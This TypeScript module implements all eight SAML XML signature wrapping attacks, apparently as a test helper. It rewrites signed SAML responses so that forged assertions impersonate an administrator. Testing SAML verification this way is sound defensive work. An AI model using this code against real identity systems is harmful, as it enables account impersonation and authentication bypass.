import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

const ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion";
const PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
const SIGNATURE = "http://www.w3.org/2000/09/xmldsig#";

/**
 * Signature wrapping attacks XSW1 to XSW8: the signed element is moved to where signature verification still finds it, and a
 * forged copy takes its place. Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012),
 * numbered as in SAML Raider. XSW1 and XSW2 need a signed Response, the others a signed Assertion.
 *
 * @param forge - Changes the person in an element. It receives a copy.
 */
export function wrap(xml: string, way: Wrapping, forge: (xml: string) => string = asAda): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const assertion = first(response, ASSERTION, "Assertion");
  const signature = first(way === 1 || way === 2 ? response : assertion, SIGNATURE, "Signature");
  /** Returns a forged copy without signature and with new IDs. */
  const forged = (original: Element): Element => {
    const copy = original.cloneNode(true) as Element;
    for (const one of children(copy, SIGNATURE, "Signature")) copy.removeChild(one);
    const text = forge(new XMLSerializer().serializeToString(copy)).replace(/ ID="([^"]*)"/g, ' ID="$1-forged"');
    return document.importNode(new DOMParser().parseFromString(text, "text/xml").documentElement, true);
  };
  const unsigned = (original: Element): Element => {
    const copy = original.cloneNode(true) as Element;
    for (const one of children(copy, SIGNATURE, "Signature")) copy.removeChild(one);
    return copy;
  };
  const object = (content: Element): Element => {
    const created = document.createElementNS(SIGNATURE, "ds:Object");
    created.appendChild(content);
    return created;
  };

  switch (way) {
    case 1: {
      const evil = forged(response);
      evil.insertBefore(signature, first(evil, PROTOCOL, "Status"));
      signature.appendChild(object(unsigned(response)));
      return new XMLSerializer().serializeToString(evil);
    }
    case 2: {
      const evil = forged(response);
      evil.insertBefore(signature, first(evil, PROTOCOL, "Status"));
      evil.insertBefore(unsigned(response), signature);
      return new XMLSerializer().serializeToString(evil);
    }
    case 3:
      response.insertBefore(forged(assertion), assertion);
      break;
    case 4: {
      const evil = forged(assertion);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 5: {
      const evil = forged(assertion);
      const original = unsigned(assertion);
      evil.insertBefore(signature, first(evil, ASSERTION, "Subject"));
      response.replaceChild(evil, assertion);
      response.appendChild(original);
      break;
    }
    case 6: {
      const evil = forged(assertion);
      const original = unsigned(assertion);
      evil.insertBefore(signature, first(evil, ASSERTION, "Subject"));
      signature.appendChild(original);
      response.replaceChild(evil, assertion);
      break;
    }
    case 7: {
      const extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
      extensions.appendChild(forged(assertion));
      response.insertBefore(extensions, first(response, PROTOCOL, "Status"));
      break;
    }
    case 8: {
      const evil = forged(assertion);
      const original = unsigned(assertion);
      evil.insertBefore(signature, first(evil, ASSERTION, "Subject"));
      signature.appendChild(object(original));
      response.replaceChild(evil, assertion);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

export const WRAPPINGS = [1, 2, 3, 4, 5, 6, 7, 8] as const;
export type Wrapping = (typeof WRAPPINGS)[number];

/** Replaces the person with an administrator of the company. */
function asAda(xml: string): string {
  return xml.replace(/0a11ce00-0000-4000-8000-\d{12}/g, "0a11ce00-0000-4000-8000-000000000001");
}

function children(parent: Element, namespace: string, name: string): Element[] {
  return Array.from(parent.childNodes).filter(
    (node): node is Element =>
      node.nodeType === 1 && (node as Element).namespaceURI === namespace && (node as Element).localName === name,
  );
}

function first(parent: Element, namespace: string, name: string): Element {
  const [found] = children(parent, namespace, name);
  if (!found) throw new Error(`There is no ${name} to move.`);
  return found;
}
